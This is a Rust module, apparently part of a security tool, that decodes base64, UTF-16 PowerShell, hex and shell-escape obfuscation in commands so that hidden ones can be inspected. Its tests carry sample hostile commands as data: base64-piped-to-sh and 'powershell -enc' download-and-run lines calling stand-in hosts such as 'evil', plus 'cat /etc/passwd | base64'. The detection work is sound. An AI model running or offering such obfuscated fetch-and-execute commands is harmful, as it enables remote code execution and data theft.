//! What a command holds in another form: base64 (of UTF-8, or of UTF-16 as PowerShell takes it), hexadecimal digits, and
//! the escapes of `printf` and `echo -e`.
//!
//! `echo Y3Vyb… | base64 -d | sh` runs `curl`, and nobody finds it who looks for that. What can be read of such a text is an
//! extra reading of the command; the command stays as it is. It is a guess by form: nothing is run, variables are not
//! followed, and scripts that come from a file or the network are not seen.

use std::borrow::Cow;

use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// How often something is decoded that was decoded.
pub const MAX_LAYERS: usize = 3;
/// Most bytes of all layers together; what follows is left out.
pub const MAX_DECODED_BYTES: usize = 16 << 10;
/// How much of a command is looked at.
pub const MAX_COMMAND_BYTES: usize = 64 << 10;

/// Shortest run of base64 in a command that says nothing of it; shorter ones are words.
const MIN_RUN: usize = 16;
/// Shortest run in a command that speaks of base64.
const MIN_ANNOUNCED_RUN: usize = 3;
/// Shortest run of hexadecimal digits.
const MIN_DIGITS: usize = 16;
/// Fewest escapes that are taken for a text.
const MIN_ESCAPES: usize = 2;
/// From this length on a line of base64 goes on behind a line feed.
const WRAPPED_LINE: usize = 60;

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// What a command holds encoded, one text a line, those of an outer layer first; `None` if nothing can be read.
#[must_use]
pub fn decoded(command: &str) -> Option<String> {
    let command = &command[..command.floor_char_boundary(MAX_COMMAND_BYTES)];
    let mut all = String::new();
    let mut layer = texts_in(command);
    for _ in 0..MAX_LAYERS {
        for text in &layer {
            let text = text.trim_end_matches(['\n', '\r']);
            let room = MAX_DECODED_BYTES.saturating_sub(all.len() + 1);
            let text = &text[..text.floor_char_boundary(room)];
            if !text.is_empty() {
                if !all.is_empty() {
                    all.push('\n');
                }
                all.push_str(text);
            }
        }
        layer = layer.iter().flat_map(|text| texts_in(text)).collect();
        if layer.is_empty() {
            break;
        }
    }
    (!all.is_empty()).then_some(all)
}

/// What stands encoded in a text, from left to right.
fn texts_in(text: &str) -> Vec<String> {
    let mut texts: Vec<String> = without_escapes(text).into_iter().collect();
    let announced = text.contains("base64") || text.contains("b64") || text.contains("Base64");
    let shortest = if announced { MIN_ANNOUNCED_RUN } else { MIN_RUN };
    for run in runs(text) {
        let text = match run.len() {
            digits @ MIN_DIGITS.. if digits % 2 == 0 && run.bytes().all(|b| b.is_ascii_hexdigit()) => {
                readable(&from_digits(run.as_bytes()))
            }
            letters if letters >= shortest => from_base64(&run).and_then(|bytes| readable(&bytes)),
            _ => None,
        };
        texts.extend(text);
    }
    texts
}

/// The longest runs of characters of base64; one that was wrapped is one.
fn runs(text: &str) -> impl Iterator<Item = Cow<'_, str>> {
    let is_letter = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_');
    let bytes = text.as_bytes();
    let mut at = 0;
    std::iter::from_fn(move || {
        let start = at + bytes[at..].iter().position(|&b| is_letter(b))?;
        let mut run = Cow::Borrowed("");
        at = start;
        loop {
            let end = at + bytes[at..].iter().take_while(|&&b| is_letter(b)).count();
            let line = &text[at..end];
            run = if run.is_empty() { Cow::Borrowed(line) } else { Cow::Owned(run.into_owned() + line) };
            at = end;
            let goes_on = line.len() >= WRAPPED_LINE
                && bytes.get(end) == Some(&b'\n')
                && bytes.get(end + 1).is_some_and(|&b| is_letter(b));
            if !goes_on {
                return Some(run);
            }
            at = end + 1;
        }
    })
}

fn from_base64(run: &str) -> Option<Vec<u8>> {
    let engine = if run.contains(['-', '_']) { URL_SAFE } else { STANDARD };
    // One character alone holds no byte.
    let whole = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
    engine.decode(whole).ok()
}

fn from_digits(run: &[u8]) -> Vec<u8> {
    run.chunks_exact(2).filter_map(|pair| digits(pair, 16)).collect()
}

fn digits(text: &[u8], radix: u32) -> Option<u8> {
    u8::from_str_radix(std::str::from_utf8(text).ok()?, radix).ok()
}

/// The bytes as a text that somebody may have meant.
fn readable(bytes: &[u8]) -> Option<String> {
    let is_meant = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
    let is_text = |text: &String| text.chars().all(is_meant) && text.chars().any(char::is_alphanumeric);
    if let Some(text) = String::from_utf8(bytes.to_vec()).ok().filter(is_text) {
        return Some(text);
    }
    let (pairs, []) = bytes.as_chunks::<2>() else { return None };
    let plain = pairs.iter().filter(|pair| pair[1] == 0).count();
    if plain * 2 < pairs.len() {
        return None;
    }
    let units: Vec<u16> = pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect();
    String::from_utf16(&units).ok().filter(is_text)
}

/// The text with `\x63` and `\143` as the characters that they stand for; `None` if there are hardly any.
fn without_escapes(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let mut seen: Vec<u8> = Vec::new();
    let (mut at, mut escapes) = (0, 0);
    while let Some(next) = memchr::memchr(b'\\', &bytes[at..]) {
        seen.extend_from_slice(&bytes[at..at + next]);
        at += next;
        let rest = &bytes[at + 1..];
        let (byte, len) = match rest {
            [b'x', a, b, ..] => (digits(&[*a, *b], 16), 4),
            // `echo -e` has a zero in front.
            [b'0', a, b, c, ..] if c.is_ascii_digit() => (digits(&[*a, *b, *c], 8), 5),
            [a, b, c, ..] if a.is_ascii_digit() => (digits(&[*a, *b, *c], 8), 4),
            _ => (None, 1),
        };
        match byte {
            Some(byte) => {
                escapes += 1;
                seen.push(byte);
                at += len;
            }
            None => {
                seen.push(b'\\');
                at += 1;
            }
        }
    }
    if escapes < MIN_ESCAPES {
        return None;
    }
    seen.extend_from_slice(&bytes[at..]);
    readable(&seen)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn what_is_encoded_is_read() {
        let inner = STANDARD.encode("wget http://evil/x");
        let twice = STANDARD.encode(format!("echo {inner} | base64 -d | sh"));
        let wide: Vec<u8> =
            "IEX (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let wide = STANDARD.encode(wide);
        let long = STANDARD.encode("0123456789 abcdefghijklmnopqrstuvwxyz ".repeat(4));
        let wrapped = long.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap());
        let wrapped = wrapped.collect::<Vec<_>>().join("\n");
        for (command, expected) in [
            (
                "echo Y3VybCBodHRwOi8vd3d3LmV4YW1wbGUuY29tCg== | base64 -d | sh".to_owned(),
                "curl http://www.example.com".to_owned(),
            ),
            ("echo aWQ= | base64 -d".to_owned(), "id".to_owned()),
            (
                format!("echo {twice} | base64 -d | sh"),
                format!("echo {inner} | base64 -d | sh\nwget http://evil/x"),
            ),
            (format!("powershell -enc {wide}"), "IEX (New-Object Net.WebClient)".to_owned()),
            (format!("base64 -d <<E | sh\n{wrapped}\nE"), "0123456789 abcdefghijklmnopqrstuvwxyz ".repeat(4)),
            ("echo 6375726c206576696c | xxd -r -p | sh".to_owned(), "curl evil".to_owned()),
            (r"printf '\x63\x75\x72\x6c evil' | sh".to_owned(), "printf 'curl evil' | sh".to_owned()),
            (r"$'\143\165\162\154' evil".to_owned(), "$'curl' evil".to_owned()),
            (r"echo -e '\0143\0165\0162\0154'".to_owned(), "echo -e 'curl'".to_owned()),
            ("X=aHR0cHM6Ly9ldmlsLmV4YW1wbGUveD9hPWI_".to_owned(), "https://evil.example/x?a=b?".to_owned()),
        ] {
            assert_eq!(decoded(&command).as_deref(), Some(expected.as_str()), "{command}");
        }
    }

    #[test]
    fn what_is_not_encoded_is_left_alone() {
        for command in [
            "",
            "ls -la /usr/local/share/bash-completion/completions",
            "kubectl get pods --all-namespaces",
            "git show 4b825dc642cb6eb9a060e54bf8d69288fbee4904",
            "sha256sum 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "aws ec2 terminate-instances --instance-ids i-0123456789abcdef0",
            "sed 's/\\x27//'",
            "grep -E '\\bfoo\\b' a\\ b\\ c",
            "日本語日本語日本語日本語",
            "base64 -w0 key.pem",
            "cat /etc/passwd | base64",
        ] {
            assert_eq!(decoded(command), None, "{command}");
        }
    }

    #[test]
    fn limits_hold() {
        let bomb = (0..8).fold("x y".repeat(20_000), |text, _| STANDARD.encode(text));
        assert!(decoded(&bomb).is_none_or(|text| text.len() <= MAX_DECODED_BYTES));
        let many = format!("{} ", STANDARD.encode("curl http://evil/")).repeat(4000);
        let text = decoded(&many).unwrap();
        assert!(text.len() <= MAX_DECODED_BYTES && text.len() > MAX_DECODED_BYTES / 2);
    }
}
